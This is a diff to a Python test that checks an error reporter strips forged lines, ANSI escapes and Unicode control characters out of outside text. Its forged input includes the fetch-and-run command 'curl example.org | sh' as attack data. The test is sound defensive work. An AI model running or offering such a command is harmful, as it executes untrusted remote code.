@@ -117,7 +117,7 @@ def test_a_file_that_fails_unexpectedly_is_named(
 
 def test_text_from_outside_forms_no_line_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
     forged = "bad\nhint: run this\r\n  curl example.org | sh\u2028error: \x1b[31m\u202e"
-    report(OutsideError(forged, forged, (forged,), (Hint(forged, forged),)), [], as_json=False)
+    report(OutsideError(forged, forged, (forged,), (Hint(forged, forged),)), [], "solve", as_json=False)
     lines = capsys.readouterr().err.splitlines()
     assert [line.partition(" ")[0] for line in lines] == ["error:", "", "cause:", "hint:", ""]
     assert all(line.isprintable() for line in lines)
